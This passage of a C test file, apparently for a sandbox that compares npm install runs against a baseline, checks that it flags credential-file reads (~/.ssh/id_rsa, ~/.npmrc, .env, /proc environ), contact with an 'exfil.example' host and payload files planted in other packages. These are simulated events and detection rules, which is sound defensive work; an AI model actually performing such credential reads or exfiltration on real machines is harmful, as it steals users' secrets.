		{(char *)"~/.vault-token", 1},
		{(char *)"/var/lib/app/", 0},
	};
	fangs_differ_options opts = FANGS_DIFFER_OPTIONS_INIT;
	fangs_differ *d = NULL;
	fangs_fpset *base = nonempty_baseline();

	memset(&cfg, 0, sizeof(cfg));
	cfg.builtin_cred_paths = 0;
	cfg.watched_paths = w;
	cfg.n_watched_paths = 3;
	opts.config = &cfg;
	ck_assert_int_eq(fangs_differ_new(&d, &opts), 0);
	ck_assert_int_eq(fangs_differ_is_cred_path(d, "/opt/secrets/key"), 1);
	ck_assert_int_eq(fangs_differ_is_cred_path(d, "/opt/secrets"), 1);
	ck_assert_int_eq(fangs_differ_is_cred_path(d, "/opt/secretsX"), 0);
	ck_assert_int_eq(fangs_differ_is_cred_path(d, "/home/y/.vault-token"), 1);
	ck_assert_int_eq(fangs_differ_is_cred_path(d, "/root/.vault-token"), 1);
	ck_assert_int_eq(fangs_differ_is_cred_path(d, "/var/lib/app/x"), 0);
	/* built-in places are off in this configuration */
	ck_assert_int_eq(fangs_differ_is_cred_path(d, "/root/.npmrc"), 0);

	t_open(&run_b, "foo", "/opt/secrets/key", FANGS_OPEN_READ);
	t_open(&run_b, "foo", "/home/node/.vault-token", FANGS_OPEN_READ);
	t_open(&run_b, "foo", "/home/node/.ssh/id_rsa", FANGS_OPEN_READ);
	t_open(&run_b, "foo", "/opt/secrets/new", FANGS_OPEN_WRITE);
	/* opened for reading and writing: still a read of the secret */
	t_open(&run_b, "foo", "/opt/secrets/db", FANGS_OPEN_READ | FANGS_OPEN_WRITE);
	ck_assert_int_eq(t_analyze(d, &run_b, base, "foo", "1.0.1", NULL, 0, NULL, &devs), 0);
	ck_assert_uint_eq(devs.count, 5);
	ck_assert_str_eq(t_find(&devs, "/opt/secrets/db")->kind, "fs_cred_read");
	ck_assert_int_eq(t_find(&devs, "/opt/secrets/db")->severity, FANGS_SEV_CRITICAL);
	ck_assert_str_eq(t_find(&devs, "/opt/secrets/key")->kind, "fs_cred_read");
	ck_assert_str_eq(t_find(&devs, "~/.vault-token")->kind, "fs_cred_read");
	ck_assert_str_eq(t_find(&devs, "~/.ssh/id_rsa")->kind, "fs_new_path_read");
	ck_assert_str_eq(t_find(&devs, "/opt/secrets/new")->kind, "fs_new_path_write");
	fangs_differ_free(d);
	fangs_fpset_free(base);
}
END_TEST

START_TEST(evidence_and_order)
{
	fangs_fpset *base = nonempty_baseline();
	int64_t first_ids[3] = {0, 0, 0};
	fangs_event *ev;

	first_ids[0] = t_dns(&run_b, "foo", "a.example")->id;
	for (int i = 0; i < 40; i++) {
		char p[64];
		snprintf(p, sizeof(p), "/proc/%d/environ", 100 + i);
		ev = t_open(&run_b, i % 2 ? "foo" : "bar", p, FANGS_OPEN_READ);
		if (i == 0)
			first_ids[1] = ev->id;
	}
	first_ids[2] = t_connect(&run_b, "foo", "198.51.100.9", 8080, FANGS_PROTO_TCP)->id;
	t_dns(&run_b, "foo", "A.EXAMPLE.");
	ev = fangs_event_list_push(&run_b);
	ev->kind = FANGS_EV_PROC_EXIT;

	ck_assert_int_eq(t_analyze(differ, &run_b, base, "foo", "1.0.1", NULL, 0, NULL, &devs), 0);
	ck_assert_uint_eq(devs.count, 3);
	/* in the order of their first evidence */
	ck_assert_str_eq(devs.items[0].value, "a.example");
	ck_assert_str_eq(devs.items[1].value, "/proc/<pid>/environ");
	ck_assert_str_eq(devs.items[2].value, "198.51.100.9:8080/tcp");
	ck_assert_int_eq(devs.items[0].evidence[0], first_ids[0]);
	ck_assert_uint_eq(devs.items[0].n_evidence, 2);
	ck_assert_int_eq(devs.items[0].evidence[1], run_b.items[42].id);
	/* capped, oldest first */
	ck_assert_uint_eq(devs.items[1].n_evidence, 32);
	for (size_t i = 0; i < 32; i++)
		ck_assert_int_eq(devs.items[1].evidence[i], first_ids[1] + (int64_t)i);
	/* origin of the first evidence (bar), not of later ones (foo) */
	ck_assert_str_eq(devs.items[1].origin.package, "bar");
	ck_assert_int_eq(devs.items[2].evidence[0], first_ids[2]);
	ck_assert_str_eq(devs.items[2].kind, "net_new_destination");
	ck_assert_int_eq(devs.items[2].severity, FANGS_SEV_HIGH);

	/* deterministic: a second analysis appends the same list */
	ck_assert_int_eq(t_analyze(differ, &run_b, base, "foo", "1.0.1", NULL, 0, NULL, &devs), 0);
	ck_assert_uint_eq(devs.count, 6);
	for (size_t i = 0; i < 3; i++) {
		ck_assert_str_eq(devs.items[i].value, devs.items[i + 3].value);
		ck_assert_uint_eq(devs.items[i].n_evidence, devs.items[i + 3].n_evidence);
	}
	fangs_fpset_free(base);
}
END_TEST

struct worker {
	const fangs_differ *d;
	const fangs_event_list *run;
	const fangs_fpset *base;
	size_t devs;
	int rc;
};

static void *analyze_many(void *arg)
{
	struct worker *w = arg;
	for (int i = 0; i < 50 && w->rc == 0; i++) {
		fangs_deviation_list l = {0};
		w->rc = t_analyze(w->d, w->run, w->base, "foo", "1.5.0", NULL, 0, NULL, &l);
		if (i == 0)
			w->devs = l.count;
		else if (l.count != w->devs)
			w->rc = -100;
		fangs_deviation_list_free(&l);
	}
	return NULL;
}

/* One differ and one baseline serve many analyses at once (the orchestrator
 * analyzes runs of several runners in parallel). */
START_TEST(concurrent_analyses)
{
	fangs_fpset *base;
	pthread_t th[4];
	struct worker w[4];
	install_run(&run_a, "1.4.2", 0);
	base = baseline_of(differ, &run_a, "1.4.2");
	install_run(&run_b, "1.5.0", 1);
	t_dns(&run_b, "foo", "exfil.example");
	t_open(&run_b, "foo", "/home/node/.ssh/id_rsa", FANGS_OPEN_READ);
	for (int i = 0; i < 4; i++) {
		w[i] = (struct worker){differ, &run_b, base, 0, 0};
		ck_assert_int_eq(pthread_create(&th[i], NULL, analyze_many, &w[i]), 0);
	}
	for (int i = 0; i < 4; i++) {
		ck_assert_int_eq(pthread_join(th[i], NULL), 0);
		ck_assert_int_eq(w[i].rc, 0);
		ck_assert_uint_eq(w[i].devs, 2);
	}
	fangs_fpset_free(base);
}
END_TEST

START_TEST(bad_arguments)
{
	fangs_differ_input in = {0};
	fangs_differ_options opts = FANGS_DIFFER_OPTIONS_INIT;
	fangs_differ *d = NULL;
	ck_assert_int_eq(fangs_differ_analyze(NULL, &in, NULL, &devs), FANGS_EINVAL);
	ck_assert_int_eq(fangs_differ_analyze(differ, NULL, NULL, &devs), FANGS_EINVAL);
	ck_assert_int_eq(fangs_differ_analyze(differ, &in, NULL, NULL), FANGS_EINVAL);
	in.n_events = 3;
	ck_assert_int_eq(fangs_differ_analyze(differ, &in, NULL, &devs), FANGS_EINVAL);
	in.n_events = 0;
	ck_assert_int_eq(fangs_differ_analyze(differ, &in, NULL, &devs), 0);
	opts.version = 99;
	ck_assert_int_eq(fangs_differ_new(&d, &opts), FANGS_EVERSION);
	ck_assert_ptr_null(d);
	ck_assert_int_eq(fangs_differ_new(NULL, NULL), FANGS_EINVAL);
	fangs_differ_free(NULL);
}
END_TEST

/* ---- content: what npm unpacks into node_modules is not behaviour ---- */

#define NM "/root/app/node_modules"
#define W FANGS_OPEN_WRITE
#define R FANGS_OPEN_READ

static const fangs_deviation *find_kind(const fangs_deviation_list *l, const char *kind, const char *value)
{
	for (size_t i = 0; i < l->count; i++)
		if (!strcmp(l->items[i].kind, kind) && !strcmp(l->items[i].value, value))
			return &l->items[i];
	return NULL;
}

/* npm unpacking lodash, core-js and the scanned package foo */
static void unpack(fangs_event_list *l, int release)
{
	char p[256];
	t_open(l, NULL, "/root/.npmrc", R);
	t_open(l, NULL, NM "/lodash/package.json", W);
	t_open(l, NULL, NM "/lodash/lodash.js", W);
	t_open(l, NULL, NM "/lodash/package.json", R);
	t_open(l, NULL, NM "/core-js/package.json", W);
	t_open(l, NULL, NM "/core-js/modules/es.array.at.js", W);
	t_open(l, NULL, NM "/foo/package.json", W);
	t_open(l, NULL, NM "/foo/install.js", W);
	t_open(l, NULL, NM "/foo/dist/chunk-3UKL5HUI.js", W);
	t_exec(l, "foo", "/bin/sh", "sh", "-c", "node install.js", NULL);
	t_exec(l, "foo", "/usr/bin/node", "node", "install.js", NULL);
	t_open(l, "foo", NM "/foo/install.js", R);
	if (release == 0) {
		t_open(l, NULL, NM "/core-js/modules/es.old.js", W);
		return;
	}
	/* the next release: new files, a renamed chunk, a new bundled tarball */
	t_open(l, NULL, NM "/lodash/fp/placeholder.js", W);
	t_open(l, NULL, NM "/lodash/fp/placeholder.js", R);
	t_open(l, NULL, NM "/lodash", R); /* npm lists the directory */
	for (int i = 0; i < 35; i++) {
		snprintf(p, sizeof(p), NM "/core-js/modules/esnext.new-%d.js", i);
		t_open(l, NULL, p, W);
	}
	t_open(l, NULL, NM "/foo/dist/chunk-Q7ZV2MNA.js", W);
	t_open(l, NULL, NM "/foo/vendor/helper-2.0.1.tgz", W);
	/* the install script requires a new file of a dependency, and lists its directory */
	t_open(l, "foo", NM "/core-js/modules/esnext.new-7.js", R);
	t_open(l, "foo", NM "/core-js/modules", R);
}

START_TEST(content_is_summarised)
{
	fangs_fpset *base;
	const fangs_deviation *d;
	unpack(&run_a, 0);
	base = baseline_of(differ, &run_a, "1.0.0");
	unpack(&run_b, 1);
	ck_assert_int_eq(t_analyze(differ, &run_b, base, "foo", "1.0.1", NULL, 0, NULL, &devs), 0);
	for (size_t i = 0; i < devs.count; i++)
		ck_assert_msg(!strcmp(devs.items[i].kind, "content_changed"), "unexpected %s %s", devs.items[i].kind,
			      devs.items[i].value);
	ck_assert_uint_eq(devs.count, 3);
	ck_assert_int_eq(fangs_deviation_list_max_severity(&devs), FANGS_SEV_INFO);

	/* one summary a package, in the order of their first files */
	ck_assert_str_eq(devs.items[0].value, "~/app/node_modules/lodash");
	ck_assert_str_eq(devs.items[1].value, "~/app/node_modules/core-js");
	ck_assert_str_eq(devs.items[2].value, "~/app/node_modules/foo");

	d = &devs.items[0];
	ck_assert_int_eq(d->severity, FANGS_SEV_INFO);
	ck_assert_int_eq(d->actor, FANGS_ACTOR_NPM);
	ck_assert_str_eq(d->description,
			 "1 file added, 2 files read by npm\n+ fp/placeholder.js\nr .\nr fp/placeholder.js");
	ck_assert_uint_eq(d->n_evidence, 3);

	d = &devs.items[1];
	ck_assert_ptr_nonnull(strstr(d->description, "35 files added, 2 unpacked files read by a script, "
						     "1 file removed\n"));
	ck_assert_ptr_nonnull(strstr(d->description, "\n+ modules/esnext.new-0.js\n"));
	ck_assert_ptr_nonnull(strstr(d->description, "\ns modules/esnext.new-7.js"));
	ck_assert_ptr_nonnull(strstr(d->description, "\ns modules\n"));
	ck_assert_ptr_nonnull(strstr(d->description, "\n- modules/es.old.js"));
	ck_assert_uint_eq(d->n_evidence, 32);

	/* the renamed chunk is the same file; the tarball's new name is content */
	d = &devs.items[2];
	ck_assert_str_eq(d->description, "1 file added\n+ vendor/helper-2.0.1.tgz");
	fangs_fpset_free(base);
}
END_TEST

/* Content must not become a place to hide behaviour in. */
START_TEST(content_is_no_hiding_place)
{
	static const char *const want[] = {
		"~/app/node_modules/foo/lib/payload.js",   /* the script writes a file of its own */
		"~/app/node_modules/lodash/lodash.js",     /* ... or into another package */
		"~/app/node_modules/foo/.env",             /* a secret npm unpacked is still a secret */
		"~/.npmrc",                                /* the user's token */
		"~/app/.env",                              /* the project's secrets */
		"~/app/node_modules/lodash/secret.txt",    /* not unpacked in this run */
		"~/app/node_modules/core-js/modules/es.y", /* not unpacked: a sibling of what was */
		"/usr/share/nodejs/npm/lib/new.js",        /* npm reading outside what it unpacked */
		"~/app/node_modules/bar/index.js",         /* npm reading a package it did not unpack */
		"~/app/node_modules/core-js",              /* the package directory, opened for writing */
	};
	fangs_fpset *base;
	const fangs_deviation *d;
	unpack(&run_a, 0);
	base = baseline_of(differ, &run_a, "1.0.0");
	unpack(&run_b, 1);
	t_open(&run_b, NULL, NM "/foo/.env", W);
	t_open(&run_b, "foo", NM "/foo/lib/payload.js", W | R);
	t_open(&run_b, "foo", NM "/lodash/lodash.js", W);
	t_open(&run_b, "foo", NM "/foo/.env", R);
	t_open(&run_b, "foo", "/root/.npmrc", R);
	t_open(&run_b, "foo", "/root/app/.env", R);
	t_open(&run_b, "foo", NM "/lodash/secret.txt", R);
	t_open(&run_b, "foo", NM "/core-js/modules/es.y", R);
	t_open(&run_b, NULL, "/usr/share/nodejs/npm/lib/new.js", R);
	t_open(&run_b, NULL, NM "/bar/index.js", R);
	t_open(&run_b, "foo", NM "/core-js", W);
	ck_assert_int_eq(t_analyze(differ, &run_b, base, "foo", "1.0.1", NULL, 0, NULL, &devs), 0);
	for (size_t i = 0; i < sizeof(want) / sizeof(want[0]); i++)
		ck_assert_msg(t_find(&devs, want[i]), "expected a deviation for '%s'", want[i]);
	ck_assert_uint_eq(devs.count, sizeof(want) / sizeof(want[0]) + 3); /* + the three summaries */
	ck_assert_ptr_nonnull(d = find_kind(&devs, "fs_new_path_write", "~/app/node_modules/foo/lib/payload.js"));
	ck_assert_int_eq(d->actor, FANGS_ACTOR_SCRIPT);
	ck_assert_ptr_nonnull(find_kind(&devs, "fs_new_path_write", "~/app/node_modules/lodash/lodash.js"));
	ck_assert_ptr_nonnull(d = find_kind(&devs, "fs_cred_read", "~/app/node_modules/foo/.env"));
	ck_assert_int_eq(d->severity, FANGS_SEV_CRITICAL);
	ck_assert_ptr_nonnull(find_kind(&devs, "fs_cred_read", "~/.npmrc"));
	ck_assert_ptr_nonnull(find_kind(&devs, "fs_cred_read", "~/app/.env"));
	/* npm unpacking a .env is content; the foo summary lists it */
	ck_assert_ptr_nonnull(d = find_kind(&devs, "content_changed", "~/app/node_modules/foo"));
	ck_assert_ptr_nonnull(strstr(d->description, "\n+ .env"));
	fangs_fpset_free(base);
}
END_TEST

/* With a first run, nothing deviates, content neither. */
START_TEST(content_first_run)
{
	fangs_fpset *run_fps = NULL;
	unpack(&run_b, 1);
	ck_assert_int_eq(fangs_fpset_new(&run_fps), 0);
	ck_assert_int_eq(t_analyze(differ, &run_b, NULL, "foo", "1.0.1", NULL, 0, run_fps, &devs), 0);
	ck_assert_uint_eq(devs.count, 0);
	/* the files are still fingerprints: the next release compares with them */
	ck_assert(fangs_fpset_contains(run_fps, FANGS_FP_FS_WRITE, FANGS_ACTOR_NPM,
				       "~/app/node_modules/foo/dist/chunk-<hash>.js"));
	fangs_fpset_free(run_fps);
}
END_TEST

/* Where a package directory is: scoped, nested, and npm's own places. */
START_TEST(content_dirs)
{
	static const char *const want[] = {
		"~/app/node_modules/@babel/core", /* summaries */
		"~/app/node_modules/a/node_modules/b",
		"~/app/node_modules/a",
		"~/app/node_modules/.bin/x", /* npm's own files: reported */
		"~/app/node_modules/.lodash-<stage>/x.js",
		"~/app/node_modules/@types/.node-<stage>/index.d.ts",
		"~/app/package.json",
	};
	fangs_fpset *base;
	t_open(&run_a, NULL, NM "/x/index.js", W);
	base = baseline_of(differ, &run_a, "1.0.0");
	t_open(&run_b, NULL, NM "/x/index.js", W);
	t_open(&run_b, NULL, NM "/@babel/core/lib/index.js", W);
	t_open(&run_b, NULL, NM "/@babel/core/package.json", W);
	t_open(&run_b, NULL, NM "/a/node_modules/b/index.js", W);
	t_open(&run_b, NULL, NM "/a/node_modules/.bin/b", W);
	t_open(&run_b, NULL, NM "/.bin/x", W);
	t_open(&run_b, NULL, NM "/.lodash-AbCdEf12/x.js", W);
	t_open(&run_b, NULL, NM "/@types/.node-Zx9Yw8Vu/index.d.ts", W);
	t_open(&run_b, NULL, "/root/app/package.json", W);
	ck_assert_int_eq(t_analyze(differ, &run_b, base, "foo", "1.0.1", NULL, 0, NULL, &devs), 0);
	expect_values(&devs, want, sizeof(want) / sizeof(want[0]));
	ck_assert_str_eq(find_kind(&devs, "content_changed", "~/app/node_modules/@babel/core")->description,
			 "2 files added\n+ lib/index.js\n+ package.json");
	ck_assert_str_eq(find_kind(&devs, "content_changed", "~/app/node_modules/a")->description,
			 "1 file added\n+ node_modules/.bin/b");
	fangs_fpset_free(base);
}
END_TEST

/* What a runtime learns of the machine varies from run to run. */
START_TEST(sysinfo_reads_fold)
{
	static const char *const want[] = {"/proc/<pid>/environ", "/proc/<pid>/cmdline", "/proc/<pid>/mem",
					   "/sys/fs/cgroup/cgroup.procs", "/proc/sys/kernel/random/boot_id"};
	fangs_fpset *base;
	t_open(&run_a, NULL, "/root/.npmrc", R);
	base = baseline_of(differ, &run_a, "1.0.0");
	t_open(&run_b, "foo", "/proc/stat", R);
	t_open(&run_b, "foo", "/sys/devices/system/cpu/online", R);
	t_open(&run_b, "foo", "/sys/devices/system/cpu/cpu1/cpufreq/scaling_cur_freq", R);
	t_open(&run_b, NULL, "/proc/meminfo", R);
	t_open(&run_b, "foo", "/proc/self/stat", R);
	t_open(&run_b, "foo", "/proc/4242/task/4250/stat", R);
	t_open(&run_b, "foo", "/proc/self/cgroup", R);
	t_open(&run_b, "foo", "/sys/fs/cgroup/memory.max", R);
	t_open(&run_b, "foo", "/sys/fs/cgroup/unified/fangs/r1/cpu.max", R);
	t_open(&run_b, "foo", "/sys/kernel/mm/transparent_hugepage/enabled", R);
	/* not information about the machine: another process's secrets */
	t_open(&run_b, "foo", "/proc/1/environ", R);
	t_open(&run_b, "foo", "/proc/1/cmdline", R);
	t_open(&run_b, "foo", "/proc/self/mem", R);
	/* nor a write, nor a look-alike */
	t_open(&run_b, "foo", "/sys/fs/cgroup/cgroup.procs", W);
	t_open(&run_b, "foo", "/proc/sys/kernel/random/boot_id", R);
	ck_assert_int_eq(t_analyze(differ, &run_b, base, "foo", "1.0.1", NULL, 0, NULL, &devs), 0);
	expect_values(&devs, want, sizeof(want) / sizeof(want[0]));
	fangs_fpset_free(base);
}
END_TEST

/* npm's content cache (a miss for an optional platform package the registry
 * does not serve: an index read, a temporary write) is npm's, wherever the
 * cache is; a script writing into it, or npm elsewhere, is not. */
START_TEST(npm_cache_infra_folds)
{
	static const char *const want[] = {"~/.npm/_cacache/tmp/<tmp>", "~/.npm/_cacache/content-v2/sha512/<hash>",
					   "~/.npm/_cacache-old/tmp/x", "~/.npm/_npx/<hex>/package.json"};
	fangs_fpset *base;
	t_open(&run_a, NULL, "/root/.npmrc", R);
	base = baseline_of(differ, &run_a, "1.0.0");
	t_open(&run_b, NULL,
	       "/home/priya/.npm/_cacache/index-v5/3f/a1/"
	       "0c5e4b7d2f9e8a6b1c3d5e7f9a0b2c4d6e8f0a1b2c3d4e5f6a7b8c9d0e1f2a3",
	       R);
	t_open(&run_b, NULL, "/home/priya/.npm/_cacache/tmp/4a1b2c3d", W);
	t_open(&run_b, NULL,
	       "/var/cache/npm/_cacache/content-v2/sha512/9f/86/"
	       "d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
	       W);
	/* a script writing into npm's cache */
	t_open(&run_b, "foo", "/home/priya/.npm/_cacache/tmp/4a1b2c3d", W);
	t_open(&run_b, "foo", "/home/priya/.npm/_cacache/content-v2/sha512/9f/86/d081884c7d659a2feaa0c55ad015a3bf", W);
	/* npm outside cacache's own directories */
	t_open(&run_b, NULL, "/home/priya/.npm/_cacache-old/tmp/x", W);
	t_open(&run_b, NULL, "/home/priya/.npm/_npx/0123456789abcdef/package.json", W);
	ck_assert_int_eq(t_analyze(differ, &run_b, base, "foo", "1.0.1", NULL, 0, NULL, &devs), 0);
	expect_values(&devs, want, sizeof(want) / sizeof(want[0]));
	for (size_t i = 0; i < 2; i++)
		ck_assert_int_eq(t_find(&devs, want[i])->actor, FANGS_ACTOR_SCRIPT);
	fangs_fpset_free(base);
}
END_TEST

/* The sandbox's own endpoints (resolvers, proxy) are given, not guessed. */
START_TEST(infra_endpoints)
{
	static const char *const infra[] = {"10.0.2.3:53", "[2001:db8::53]:53", "198.51.100.9", "2001:db8::99"};
	static const char *const want[] = {"10.0.2.3:443/tcp", "8.8.8.8:53/udp", "[2001:db8::53]:80/tcp",
					   "203.0.113.7:53/udp"};
	static const char *const bad[] = {"", "nope", "10.0.2.3:", "10.0.2.3:70000", "[2001:db8::1", "[::1]x"};
	fangs_differ_options opts = FANGS_DIFFER_OPTIONS_INIT;
	fangs_differ *d = NULL, *plain = NULL;
	fangs_fpset *base;

	opts.infra = infra;
	opts.n_infra = sizeof(infra) / sizeof(infra[0]);
	ck_assert_int_eq(fangs_differ_new(&d, &opts), 0);
	t_open(&run_a, NULL, "/root/.npmrc", R);
	base = baseline_of(d, &run_a, "1.0.0");
	t_connect(&run_b, NULL, "10.0.2.3", 53, FANGS_PROTO_UDP);
	t_connect(&run_b, "foo", "::ffff:10.0.2.3", 53, FANGS_PROTO_UDP);
	t_connect(&run_b, "foo", "2001:db8::53", 53, FANGS_PROTO_UDP);
	t_connect(&run_b, NULL, "198.51.100.9", 3128, FANGS_PROTO_TCP);
	t_connect(&run_b, "foo", "2001:0db8::0099", 8080, FANGS_PROTO_TCP);
	t_connect(&run_b, "foo", "127.0.0.53", 53, FANGS_PROTO_UDP);
	/* the same hosts on other ports, and other resolvers, still count */
	t_connect(&run_b, "foo", "10.0.2.3", 443, FANGS_PROTO_TCP);
	t_connect(&run_b, "foo", "8.8.8.8", 53, FANGS_PROTO_UDP);
	t_connect(&run_b, "foo", "2001:db8::53", 80, FANGS_PROTO_TCP);
	t_connect(&run_b, "foo", "203.0.113.7", 53, FANGS_PROTO_UDP);
	ck_assert_int_eq(t_analyze(d, &run_b, base, "foo", "1.0.1", NULL, 0, NULL, &devs), 0);
	expect_values(&devs, want, sizeof(want) / sizeof(want[0]));
	fangs_deviation_list_free(&devs);

	/* without them, the resolver is a destination like any other */
	ck_assert_int_eq(fangs_differ_new(&plain, NULL), 0);
	ck_assert_int_eq(t_analyze(plain, &run_b, base, "foo", "1.0.1", NULL, 0, NULL, &devs), 0);
	ck_assert(t_find(&devs, "10.0.2.3:53/udp"));
	ck_assert(t_find(&devs, "198.51.100.9:3128/tcp"));
	ck_assert(!t_find(&devs, "127.0.0.53:53/udp"));
	fangs_differ_free(plain);
	plain = NULL;

	/* version 1 callers have no such fields */
	opts.version = 1;
	ck_assert_int_eq(fangs_differ_new(&plain, &opts), 0);
	fangs_differ_free(plain);
	opts.version = FANGS_DIFFER_OPTIONS_VERSION;
	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		const char *one[] = {bad[i]};
		opts.infra = one;
		opts.n_infra = 1;
		plain = (fangs_differ *)1;
		ck_assert_msg(fangs_differ_new(&plain, &opts) == FANGS_EINVAL, "'%s' accepted", bad[i]);
		ck_assert_ptr_null(plain);
	}
	opts.infra = NULL;
	ck_assert_int_eq(fangs_differ_new(&plain, &opts), FANGS_EINVAL);
	fangs_fpset_free(base);
	fangs_differ_free(d);
}
END_TEST

TCase *tcase_analyze(void)
{
	TCase *tc = tcase_create("analyze");
	tcase_add_checked_fixture(tc, setup, teardown);
	tcase_add_test(tc, first_run_seeds);
	tcase_add_test(tc, flood_of_new_values);
	tcase_add_test(tc, npmrc_by_npm_vs_script);
	tcase_add_test(tc, aliases_of_credentials);
	tcase_add_test(tc, npm_reads_new_file);
	tcase_add_test(tc, import_phase_vs_install);
	tcase_add_test(tc, import_phase_without_baseline_import);
	tcase_add_test(tc, loader_and_resolver_reads_fold);
	tcase_add_test(tc, sh_c_new_command_line);
	tcase_add_test(tc, noise_only_run);
	tcase_add_test(tc, allowlists);
	tcase_add_test(tc, severity_overrides);
	tcase_add_test(tc, cred_paths_builtin);
	tcase_add_test(tc, cred_paths_configured);
	tcase_add_test(tc, evidence_and_order);
	tcase_add_test(tc, concurrent_analyses);
	tcase_add_test(tc, bad_arguments);
	tcase_add_test(tc, content_is_summarised);
	tcase_add_test(tc, content_is_no_hiding_place);
	tcase_add_test(tc, content_first_run);
	tcase_add_test(tc, content_dirs);
	tcase_add_test(tc, sysinfo_reads_fold);
	tcase_add_test(tc, npm_cache_infra_folds);
	tcase_add_test(tc, infra_endpoints);
	return tc;
}
